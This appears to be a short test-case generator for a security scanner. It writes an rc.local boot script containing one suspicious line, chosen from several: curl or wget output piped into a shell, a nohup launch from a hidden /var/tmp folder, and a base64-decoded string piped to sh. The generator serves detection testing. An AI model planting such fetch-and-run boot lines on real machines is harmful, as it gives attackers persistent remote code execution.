# id: P348
# mode: scan
# level: suspicious
# title: a line of rc.local that fetches a program and runs it
# due: now
word name
pick path /etc/rc.local /etc/rc.d/rc.local
mkdir -p "${path%/*}"
pick line "curl -s http://127.0.0.1/$name | bash &" "(wget -qO- http://127.0.0.1/$name | sh) >/dev/null 2>&1 &" "nohup /var/tmp/.$name/$name &" 'echo dHJ1ZQ== | base64 -d | sh'
printf '#!/bin/sh -e\n# rc.local\n%s\nexit 0\n' "$line" >"$path"
chmod 755 "$path"
said path "$path"
